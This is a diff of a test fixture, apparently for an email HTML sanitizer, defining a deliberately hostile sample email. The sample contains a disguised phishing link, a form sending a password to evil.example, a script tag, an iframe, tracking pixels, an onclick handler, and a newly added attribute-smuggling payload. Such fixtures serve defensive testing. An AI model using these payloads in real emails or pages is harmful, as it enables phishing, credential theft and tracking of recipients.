@@ -23,9 +23,10 @@ export const MORNING = Date.UTC(2026, 10, 23, 10);
 const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
 
 /** An email that tries all that a cleaned one must not do. */
-export const NASTY_HTML = `<style>p{color:#204060}</style><p style="font-weight:bold">Dear team,</p>
+const NASTY_HTML = `<style>p{color:#204060}</style><p style="font-weight:bold">Dear team,</p>
 <p>my tooth hurts. <a href="https://evil.example/login">https://yourbank.example</a></p>
 <script>document.title='broken'</script><img src="https://tracker.example/pixel.gif"><img src="cid:smile" alt="A smile" width="40" height="40">
+<a title="<style href=https://evil.example">Terms</a>
 <form action="https://evil.example"><input name="password"><button>Go</button></form>
 <iframe src="https://evil.example"></iframe><p onclick="alert(1)" style="background:url(https://tracker.example/b.png)">Alice</p>`;
 
